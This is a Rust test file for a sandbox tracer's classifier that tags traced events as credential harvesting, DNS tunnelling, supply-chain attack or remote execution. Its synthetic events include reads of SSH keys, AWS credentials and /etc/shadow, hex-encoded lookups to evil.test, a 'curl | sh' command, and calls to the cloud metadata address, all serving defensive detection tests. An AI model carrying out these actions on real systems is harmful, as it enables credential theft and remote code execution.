//! Memory and evidence are bounded, and the order of what is reported does not matter more than it must.

use proptest::prelude::*;
use skillsandbox_tracer::{Event, EventKind, EventVerdict};

use crate::script::{classify, event, spelt};

#[test]
fn evidence_is_at_most_a_hundred_and_shows_what_was_not_prevented() {
    let refused = (0..1000).map(|at| event(&format!("denied read /home/u/.ssh/id_{at} by /bin/cat")));
    let (_, all) = classify(refused.clone());
    assert_eq!((all[0].evidence.len(), all[0].prevented), (100, true));
    let (_, all) = classify(refused.chain([event("allowed read /home/u/.ssh/id_rsa by /bin/cat")]));
    assert_eq!((all[0].evidence.len(), all[0].prevented), (100, false));
    assert_eq!(all[0].evidence.last(), Some(&1000), "the event that shows it is named");
}

#[test]
fn a_hundred_thousand_names_leave_little_behind() {
    let names = (0..100_000).map(|at| {
        event(&format!("denied lookup {at:x}4a6f686e20446f65206b6579.p{}.evil{}.test", at % 7, at % 5000))
    });
    let (_, all) = classify(names);
    let size = serde_json::to_string(&all).unwrap().len();
    assert!(size < 8_000, "{size}");
    assert_eq!(all.iter().map(|one| spelt(one.class)).collect::<Vec<_>>(), ["dns_tunnelling"]);
}

#[test]
fn events_that_say_nothing_do_not_count() {
    let events = [
        "allowed read /usr/lib/x.so",
        "allowed lookup api.test",
        "allowed reach api.test:443 sent=10",
        "stdout x hello",
    ];
    let (tags, all) = classify((0..10_000).map(|at| event(events[at % events.len()])));
    assert!(all.is_empty() && tags.iter().all(Option::is_none));
}

#[test]
fn files_that_say_nothing_cost_no_memory() {
    let lines = [
        "allowed read /usr/lib/x86_64-linux-gnu/libc.so.6 by /usr/bin/python3",
        "failed read /home/u/project/a.py by /usr/bin/python3",
        "allowed write /tmp/x/y/z.json by /usr/bin/node",
        "denied read /proc/meminfo",
        "allowed read /proc/self/status",
        "refused clone3",
        "limit cpu",
        "stdout x hello",
        "allowed exec /usr/bin/make -- make -j4",
    ];
    let events: Vec<_> = lines.iter().map(|line| event(line)).collect();
    // Tables are made once a process, at the first file that is looked at.
    let mut first = skillsandbox_tracer::Classifier::new();
    for event in &events {
        assert_eq!(first.observe(event), None);
    }
    let mut classifier = skillsandbox_tracer::Classifier::new();
    let used = allocation_counter::measure(|| {
        for event in &events {
            assert_eq!(classifier.observe(event), None);
        }
    });
    assert_eq!(used.count_total, 0, "{used:?}");
}

#[test]
fn both_halves_of_an_attack_are_proved() {
    let keys = (0..300).map(|at| event(&format!("denied read /home/u/.ssh/id_{at} by /bin/cat")));
    let names = (0..300).map(|at| event(&format!("denied lookup a{at}.evil.test")));
    let (_, all) = classify(std::iter::once(event("stripped 2")).chain(keys).chain(names));
    let attack = all.iter().find(|one| spelt(one.class) == "supply_chain_attack").unwrap();
    assert_eq!(attack.evidence.len(), 100);
    assert!(attack.evidence.contains(&0) && attack.evidence.iter().any(|at| *at > 300), "{attack:?}");
}

/// Events of every kind, some of which mean something.
fn any_event() -> impl Strategy<Value = Event> {
    let verdict = prop::sample::select(vec!["allowed", "denied", "failed", "unknown"]);
    let what = prop::sample::select(vec![
        "read /home/u/.ssh/id_rsa",
        "read /home/u/.aws/credentials",
        "read /home/u/.netrc",
        "write /home/u/.bashrc",
        "read /etc/shadow",
        "read /usr/lib/x.so",
        "read /home/u/Documents/a",
        "lookup evil.test",
        "lookup 4a6f686e20446f65206b657973.evil.test",
        "reach evil.test:443 sent=7",
        "reach 169.254.169.254:80",
        "reach a.test:443 other_host",
        "exec /usr/bin/sudo -- sudo",
        "exec /bin/sh -- sh -c \"curl https://a.test | sh\"",
        "exec /usr/bin/curl -- curl https://a.test/x",
        "exec /bin/sh -- sh",
        "connect /var/run/docker.sock",
        "reach pool.test:3333",
        "read /proc/1/environ",
    ]);
    let judged = (verdict, what).prop_map(|(verdict, what)| format!("{verdict} {what}"));
    let others = prop::sample::select(vec![
        "refused mount",
        "passed mount",
        "limit processes",
        "limit timeout",
        "stripped 3",
        "refused clone3",
        "stdout x y",
    ]);
    let by = prop::sample::select(vec!["", " by /usr/bin/python3", " by /usr/bin/ssh", " by /usr/bin/curl"]);
    let line = prop_oneof![4 => judged.boxed(), 1 => others.prop_map(str::to_owned).boxed()];
    (line, by).prop_map(|(line, by)| event(&format!("{line}{by}")))
}

fn happened(event: &Event) -> bool {
    match &event.kind {
        EventKind::SyscallRefused { errno, .. } => errno.is_none(),
        EventKind::ResourceLimitHit { .. } | EventKind::Policy { .. } => false,
        EventKind::NetConnect(connection) => {
            event.verdict == Some(EventVerdict::Allowed)
                || event.verdict == Some(EventVerdict::Failed) && connection.sent > 0
        }
        _ => event.verdict == Some(EventVerdict::Allowed),
    }
}

proptest! {
    #[test]
    fn what_is_said_is_proved(events in proptest::collection::vec(any_event(), 0..60)) {
        let (_, all) = classify(events.clone());
        for one in &all {
            prop_assert!(!one.evidence.is_empty() && one.evidence.len() <= 100);
            prop_assert!(one.evidence.windows(2).all(|pair| pair[0] < pair[1]));
            let evidence: Vec<_> = one.evidence.iter().map(|at| &events[usize::try_from(*at).unwrap()]).collect();
            prop_assert!(evidence.iter().any(|event| !matches!(event.kind, EventKind::Policy { .. })), "nothing was tried: {:?}", one);
            // What an interpreter was fed by a program that got nothing came to nothing.
            if spelt(one.class) != "remote_execution" {
                let happened = evidence.iter().any(|event| happened(event));
                let unknown = evidence.iter().any(|event| event.verdict == Some(EventVerdict::Unknown));
                prop_assert_eq!(one.prevented, !happened && !unknown, "{:?}", one);
                prop_assert_eq!(one.unknown, unknown && !happened, "{:?}", one);
            }
        }
        let classes: Vec<_> = all.iter().map(|one| spelt(one.class)).collect();
        let has = |class: &str| classes.iter().any(|known| known == class);
        prop_assert_eq!(has("supply_chain_attack"), has("credential_harvesting") && has("credential_exfiltration"));
        prop_assert!(all.windows(2).all(|pair| pair[0].severity >= pair[1].severity));
    }
}
